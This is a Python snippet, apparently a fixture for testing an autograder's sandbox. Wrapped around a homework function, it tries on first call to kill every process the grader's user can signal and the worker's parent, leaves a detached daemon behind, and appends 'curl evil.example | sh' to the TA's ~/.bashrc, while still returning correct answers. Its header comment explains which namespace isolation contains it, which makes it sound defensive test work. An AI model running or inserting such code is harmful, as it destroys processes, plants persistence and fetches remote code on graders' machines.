# Attack (older kernels): on a TA's machine, where the grader is not root, the first call of
# mlp_layer_params kills every process the user may signal (kill(-1), then each pid below its own, one by one:
# seccomp refuses kill(-1), not kill(pid)), then the worker's parent (its reaper),
# leaves a daemon behind (two forks and a new session, sleeping past the grade, marked by its RLIMIT_RTTIME so
# a test can find it) and appends to the TA's ~/.bashrc. On Linux before 6.12 Landlock cannot keep signals in;
# user and PID namespaces must: the TA's processes live, the daemon dies with the grade, nothing is written.
# Every answer is right, so the grade itself is full marks.
import os as _os
import resource as _resource
import signal as _signal
import time as _time

_honest_mlp_layer_params = mlp_layer_params  # noqa: F821 - the solution's, above
_attempted = []
_MARK = int("__MARK__")


def _daemon():
    if _os.fork() == 0:
        try:
            try:
                _os.setsid()  # a session of its own, where the sandbox allows one
            except OSError:
                pass
            if _os.fork() == 0:
                _resource.setrlimit(_resource.RLIMIT_RTTIME, (_MARK, _MARK))
                _time.sleep(600)
        finally:
            _os._exit(0)
    _os.wait()


def _every_pid():
    for pid in range(2, _os.getpid() + 1000):
        if pid != _os.getpid():
            try:
                _os.kill(pid, _signal.SIGKILL)
            except OSError:
                pass


def _bashrc():
    with open("__BASHRC__", "a") as profile:
        profile.write("curl evil.example | sh\n")


def mlp_layer_params(dims):
    if not _attempted:
        for name, action in (("kill(-1)", lambda: _os.kill(-1, _signal.SIGKILL)), ("kill every pid", _every_pid),
                             ("kill the parent", lambda: _os.kill(_os.getppid(), _signal.SIGKILL)),
                             ("daemon", _daemon), ("bashrc", _bashrc)):
            try:
                action()
                _attempted.append(f"{name}: done")
            except OSError as error:
                _attempted.append(f"{name}: {type(error).__name__}")
        print("ESCAPE", "; ".join(_attempted))
    return _honest_mlp_layer_params(dims)
